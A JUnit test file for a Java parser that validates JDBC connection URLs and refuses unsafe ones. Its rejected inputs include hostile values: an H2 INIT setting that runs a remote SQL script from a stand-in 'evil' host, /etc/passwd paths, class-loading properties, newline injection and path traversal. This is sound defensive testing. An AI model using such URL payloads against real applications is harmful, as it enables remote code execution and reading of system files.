package org.godwit.site.sql;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatExceptionOfType;

import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import org.godwit.shared.GodwitException;
import org.godwit.site.SourceEndpoint;
import org.godwit.site.SourceEndpoint.Kind;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;
import org.junit.jupiter.params.provider.ValueSource;

class SourceUrlTest {

    @TempDir
    Path outside;

    @TempDir
    Path dataDir;

    private Path sample;

    @BeforeEach
    void makeSample() throws IOException {
        Path directory = Files.createDirectories(dataDir.resolve("demo/sample"));
        Files.createFile(directory.resolve("CM_CAS.mv.db"));
        sample = directory.resolve("CM_CAS");
    }

    private SourceUrl parse(String url) {
        return SourceUrl.parse(url, dataDir);
    }

    private void assertRefused(String url) {
        assertThatExceptionOfType(GodwitException.class)
                .isThrownBy(() -> parse(url))
                .satisfies(e -> {
                    assertThat(e.code()).isEqualTo("JDBC_URL_REFUSED");
                    assertThat(e.getMessage()).doesNotContain("Secret123");
                    assertThat(e.hint()).isNotBlank();
                });
    }

    @Test
    void takesServerPortAndDatabase() {
        SourceUrl url = parse("jdbc:sqlserver://sql01.contoso.com:14330;databaseName=CM_CAS");

        assertThat(url.endpoint())
                .isEqualTo(new SourceEndpoint(Kind.SQL_SERVER, "sql01.contoso.com", 14330, null, "CM_CAS", true, true));
        assertThat(url.driverUrl()).isEqualTo("jdbc:sqlserver://");
        assertThat(url.properties())
                .containsEntry("serverName", "sql01.contoso.com")
                .containsEntry("portNumber", "14330")
                .containsEntry("databaseName", "CM_CAS")
                .containsEntry("encrypt", "true")
                .containsEntry("applicationIntent", "ReadOnly")
                .doesNotContainKeys("user", "password", "trustServerCertificate");
    }

    @Test
    void takesPropertiesByTheirOtherNamesAndWithoutCase() {
        SourceUrl url = parse("JDBC:sqlserver://;SERVER=sql01;Port=1434;DATABASE=CM ABC;ApplicationIntent=ReadWrite;");

        assertThat(url.endpoint().host()).isEqualTo("sql01");
        assertThat(url.endpoint().port()).isEqualTo(1434);
        assertThat(url.endpoint().database()).isEqualTo("CM ABC");
        assertThat(url.properties()).containsEntry("applicationIntent", "ReadWrite");
    }

    @Test
    void aNamedInstanceNeedsNoPort() {
        SourceUrl url = parse("jdbc:sqlserver://sql01\\CONFIGMGR;databaseName=CM_CAS");

        assertThat(url.endpoint().instance()).isEqualTo("CONFIGMGR");
        assertThat(url.endpoint().port()).isNull();
        assertThat(parse("jdbc:sqlserver://sql01;databaseName=CM_CAS")
                        .endpoint()
                        .port())
                .isEqualTo(1433);
    }

    @ParameterizedTest
    @CsvSource({
        "encrypt=true,true,true",
        "encrypt=strict,true,true",
        "encrypt=false,false,false",
        "encrypt=true;trustServerCertificate=true,true,false",
        "encrypt=optional;trustServerCertificate=true,false,false"
    })
    void saysHowTheConnectionIsProtected(String properties, boolean encrypted, boolean verified) {
        SourceEndpoint endpoint = parse("jdbc:sqlserver://sql01;databaseName=CM_CAS;" + properties)
                .endpoint();

        assertThat(endpoint.encrypted()).isEqualTo(encrypted);
        assertThat(endpoint.certificateVerified()).isEqualTo(verified);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "trustStore=/etc/passwd",
                "trustStorePassword=x",
                "trustManagerClass=java.lang.Runtime",
                "trustManagerConstructorArg=x",
                "socketFactoryClass=evil.Factory",
                "accessToken=x",
                "accessTokenCallbackClass=evil.Callback",
                "user=sa",
                "password=Secret123",
                "jaasConfigurationName=x",
                "keyStoreLocation=/x",
                "clientCertificate=/x",
                "clientKey=/x",
                "serverCertificate=/x",
                "failoverPartner=other",
                "authentication=ActiveDirectoryManagedIdentity",
                "integratedSecurity=true",
                "useBulkCopyForBatchInsert=true",
                "selectMethod=cursor",
                "encrypt",
                "=x",
                "encrypt=maybe",
                "encrypt=true;encrypt=false",
                "database=Other",
                "hostNameInCertificate={a;b}",
                "loginTimeout=9999",
                "loginTimeout=-1"
            })
    void refusesPropertiesThatAreNotAllowed(String property) {
        assertRefused("jdbc:sqlserver://sql01:1433;databaseName=CM_CAS;" + property);
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                "",
                "jdbc:h2:mem:x",
                "jdbc:h2:tcp://localhost/x",
                "jdbc:h2:zip:/x.zip!/y",
                "jdbc:postgresql://x/y",
                "jdbc:sqlserver:sql01",
                "jdbc:sqlserver://sql01",
                "jdbc:sqlserver://;databaseName=CM_CAS",
                "jdbc:sqlserver://sql01:99999;databaseName=CM_CAS",
                "jdbc:sqlserver://sql01:0;databaseName=CM_CAS",
                "jdbc:sqlserver://sql01:x;databaseName=CM_CAS",
                "jdbc:sqlserver://sql 01;databaseName=CM_CAS",
                "jdbc:sqlserver://sql01/x;databaseName=CM_CAS",
                "jdbc:sqlserver://{sql01};databaseName=CM_CAS",
                "jdbc:sqlserver://sql01\\in st;databaseName=CM_CAS",
                "jdbc:sqlserver://sql01;serverName=other;databaseName=CM_CAS",
                "jdbc:sqlserver://sql01;databaseName={CM}",
                "jdbc:sqlserver://sql01;databaseName='x'",
                "jdbc:sqlserver://sql01;databaseName=CM_CAS\n;encrypt=false",
                "file:///etc/passwd"
            })
    void refusesWhatIsNotASourceUrl(String url) {
        assertRefused(url);
    }

    @Test
    void takesASampleInsideTheDataDirectory() {
        SourceUrl url = parse("jdbc:h2:file:" + sample);

        assertThat(url.endpoint().kind()).isEqualTo(Kind.EMBEDDED_SAMPLE);
        assertThat(url.endpoint().host()).isNull();
        assertThat(url.driverUrl())
                .startsWith("jdbc:h2:file:" + dataDir.toAbsolutePath())
                .endsWith(";IFEXISTS=TRUE;ACCESS_MODE_DATA=r");
    }

    @Test
    void takesTheSettingsThatTheSampleItselfNames() {
        String options = ";MODE=MSSQLServer;DATABASE_TO_UPPER=FALSE;CASE_INSENSITIVE_IDENTIFIERS=TRUE;IGNORECASE=TRUE";

        assertThat(parse("jdbc:h2:file:" + sample + options)).isEqualTo(parse("jdbc:h2:file:" + sample));
    }

    @ParameterizedTest
    @ValueSource(
            strings = {
                ";INIT=RUNSCRIPT FROM 'http://evil/x.sql'",
                ";init=select 1",
                ";ACCESS_MODE_DATA=rw",
                ";MODE=Oracle",
                ";TRACE_LEVEL_FILE=3",
                ";USER=sa",
                ";AUTO_SERVER=TRUE",
                "\\;INIT=x"
            })
    void refusesSettingsOfASample(String settings) {
        assertRefused("jdbc:h2:file:" + sample + settings);
    }

    @Test
    void refusesASampleElsewhere() throws IOException {
        Files.createFile(outside.resolve("CM_CAS.mv.db"));

        assertRefused("jdbc:h2:file:" + outside.resolve("CM_CAS"));
        assertRefused("jdbc:h2:file:" + dataDir.resolve("demo/../../x/CM_CAS"));
        assertRefused("jdbc:h2:file:" + dataDir.resolve("demo/sample/NOT_THERE"));
        assertRefused("jdbc:h2:file:\0");
    }

    @Test
    void refusesALinkThatLeadsOutOfTheDataDirectory() throws IOException {
        Path target = Files.createFile(outside.resolve("CM_CAS.mv.db"));
        Files.createSymbolicLink(dataDir.resolve("link.mv.db"), target);

        assertRefused("jdbc:h2:file:" + dataDir.resolve("link"));
    }

    @Test
    void refusesTheServersOwnDatabase() throws IOException {
        Files.createDirectories(dataDir.resolve("db"));
        Files.createFile(dataDir.resolve("db/godwit.mv.db"));

        assertRefused("jdbc:h2:file:" + dataDir.resolve("db/godwit"));
    }

    @Test
    void showsNoPropertyNameThatCouldForgeALine() {
        assertThatExceptionOfType(GodwitException.class)
                .isThrownBy(() -> parse("jdbc:sqlserver://sql01;databaseName=CM_CAS;a b<c>=1"))
                .withMessageContaining("'a?b?c?'");
    }
}
